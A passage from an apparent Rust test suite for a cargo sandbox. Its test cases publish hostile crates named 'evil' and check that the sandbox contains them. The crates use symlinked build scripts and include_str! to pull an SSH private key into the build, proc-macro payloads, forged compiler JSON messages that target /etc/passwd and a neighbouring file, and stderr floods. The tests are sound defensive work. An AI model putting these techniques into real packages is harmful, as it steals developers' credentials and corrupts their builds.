        "std::os::unix::fs::symlink(\"{SECRET}\", std::env::var(\"OUT_DIR\").unwrap() + \"/l\").unwrap();",
    ),
    (
        "a link to a folder",
        "pub static LOOT: &str = include_str!(concat!(env!(\"OUT_DIR\"), \"/l/id_ed25519\"));",
        "std::os::unix::fs::symlink(\"{FOLDER}\", std::env::var(\"OUT_DIR\").unwrap() + \"/l\").unwrap();",
    ),
    (
        "an object",
        "#[link(name = \"loot\", kind = \"static\")] unsafe extern \"C\" {}",
        "let out = std::env::var(\"OUT_DIR\").unwrap(); std::os::unix::fs::symlink(\"{SECRET}\", format!(\"{out}/libloot.a\")).unwrap(); \
      println!(\"cargo::rustc-link-search=native={out}\");",
    ),
];

/// Those that name a file of the host to rustc, which then says that it is not there: no code of the package runs, and what
/// was refused is found out for the user all the same.
const NAMED_TO_RUSTC: [&str; 5] = ["include_str", "include_bytes", "a relative path", "a comment", "a module"];

/// Variants of attack 113.
#[test]
fn case_098_the_compiler_reads_no_secrets_for_anybody() {
    for (what, source, script) in COMPILED {
        let arena = Arena::new("evil = \"1\"", "fn main() { println!(\"{:?}\", &raw const evil::LOOT) }");
        let secret = arena.home().join(".ssh/id_ed25519").display().to_string();
        let folder = arena.home().join(".ssh").display().to_string();
        let project = arena.stage.project.root().display().to_string();
        let filled =
            |text: &str| text.replace("{SECRET}", &secret).replace("{FOLDER}", &folder).replace("{PROJECT}", &project);
        let mut package = CrateBuilder::new("evil", "1.0.0").file("src/lib.rs", filled(source));
        if !script.is_empty() {
            package = package.build_script(&format!("fn main() {{ {} }}", filled(script)));
        }
        arena.stage.registry.publish(package);
        let outcome = arena.bulkhead(&["build"]);
        arena.assert_unharmed(&outcome);
        assert_ne!(outcome.code(), Some(0), "{what}: {outcome}");
        if NAMED_TO_RUSTC.contains(&what) {
            assert!(outcome.stderr.contains(&format!("read {secret}")), "{what} is not told of: {outcome}");
        }
        let theirs = arena.cargo(&["build", "--target-dir", "theirs"]);
        let stolen = arena.holds_secret("theirs");
        // What is no source and no archive gives an error that quotes nothing; the file was opened all the same.
        let opened =
            theirs.stderr.contains("expected one of") || theirs.stderr.contains("failed to add native library");
        assert!(stolen || opened || what == "a module" || what == "an object", "{what} does not bite: {theirs}");
    }
}

/// Variants of attack 116: rustdoc and clippy run as much of the package as the compiler does.
#[test]
fn case_116_documenting_and_linting_are_as_confined() {
    let arena = Arena::new("evil = \"1\"", "evil::new!(); fn main() {}");
    let source = format!(
        "{}#[proc_macro]\npub fn new(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{ payload(); \
         proc_macro::TokenStream::new() }}\n",
        arena.payload()
    );
    let package = CrateBuilder::new("evil", "1.0.0").proc_macro().file("src/lib.rs", source);
    arena.stage.registry.publish(package);
    for command in
        [&["doc"][..], &["doc", "--document-private-items"], &["clippy"], &["rustc"], &["rustdoc"], &["bench"]]
    {
        arena.assert_bitten(&arena.cargo(command));
        let outcome = arena.bulkhead(command);
        arena.assert_unharmed(&outcome);
        outcome.assert_success();
        arena.clear();
    }
}

/// A macro speaks as the compiler: messages that forge files, fixes, artifacts and endings, and floods without end.
#[test]
fn case_165_macros_that_speak_as_the_compiler_gain_nothing() {
    let forged = r#"{"$message_type":"artifact","artifact":"/etc/passwd","emit":"link"}
{"$message_type":"artifact","artifact":"/etc/passwd","emit":"metadata"}
{"$message_type":"future_incompat","future_incompat_report":[]}
{"$message_type":"unused_extern","lint_level":"deny","unused_extern_names":["x"]}
{"$message_type":"diagnostic","message":"aborting due to","code":null,"level":"error","spans":[],"children":[],"rendered":"error: forged\n"}
{"$message_type":"diagnostic","message":"forged","code":null,"level":"warning","spans":[{"file_name":"{VICTIM}","byte_start":0,"byte_end":1,"line_start":1,"line_end":1,"column_start":1,"column_end":2,"is_primary":true,"text":[],"label":null,"suggested_replacement":"evil","suggestion_applicability":"MachineApplicable","expansion":null}],"children":[{"message":"x","code":null,"level":"help","spans":[{"file_name":"{VICTIM}","byte_start":0,"byte_end":1,"line_start":1,"line_end":1,"column_start":1,"column_end":2,"is_primary":true,"text":[],"label":null,"suggested_replacement":"evil","suggestion_applicability":"MachineApplicable","expansion":null}],"children":[],"rendered":null}],"rendered":"warning: forged\n"}
{"reason":"build-finished","success":true}
{"reason":"compiler-artifact","package_id":"x","executable":"/bin/true"}
"#;
    let arena = Arena::new("evil = \"1\"", "evil::new!(); fn main() {}");
    let victim = arena.outside().join("neighbour/src/lib.rs").display().to_string();
    let forged = forged.replace("{VICTIM}", &victim);
    let source = format!(
        "#[proc_macro]\npub fn new(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{ eprint!(\"{{}}\", {forged:?}); \
         print!(\"{{}}\", {forged:?}); proc_macro::TokenStream::new() }}"
    );
    arena.stage.registry.publish(CrateBuilder::new("evil", "1.0.0").proc_macro().file("src/lib.rs", source));
    for arguments in [
        &["check"][..],
        &["build"],
        &["clippy"],
        &["build", "--message-format", "json"],
        &["clippy", "--fix", "--allow-no-vcs", "--allow-dirty"],
    ] {
        let outcome = arena.bulkhead(arguments);
        arena.assert_unharmed(&outcome);
        outcome.assert_success();
        for line in outcome.stdout.lines().filter(|line| line.starts_with('{')) {
            let value: serde_json::Value = serde_json::from_str(line).unwrap();
            let reason = value["reason"].as_str().unwrap_or_default();
            assert!(reason != "compiler-artifact" || value["executable"] != "/bin/true", "{line}");
            assert!(reason != "compiler-artifact" || value["package_id"] != "x", "{line}");
        }
    }
    for (what, body) in [
        ("one line", "for _ in 0..300 { let _ = err.write_all(&[b'x'; 1 << 20]); }"),
        (
            "lines",
            "for _ in 0..3_000_000 { let _ = err.write_all(b\"warning: again and again and again and again and again and again and again and again\\n\"); }",
        ),
        ("braces", "for _ in 0..300 { let _ = err.write_all(&[b'{'; 1 << 20]); }"),
    ] {
        let arena = Arena::new("evil = \"1\"", "evil::new!(); fn main() {}");
        let source = format!(
            "#[proc_macro]\npub fn new(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{ use std::io::Write as _; \
             let mut err = std::io::BufWriter::with_capacity(1 << 20, std::io::stderr()); {body} proc_macro::TokenStream::new() }}"
        );
        arena.stage.registry.publish(CrateBuilder::new("evil", "1.0.0").proc_macro().file("src/lib.rs", source));
        let outcome = arena.bulkhead(&["check"]);
        arena.assert_unharmed(&outcome);
        // It is the limit of what a process may print that ends this, and says so.
        outcome.assert_code(101);
        assert!(outcome.stderr.len() < 4 << 20, "{what}: {}", outcome.stderr.len());
    }
}
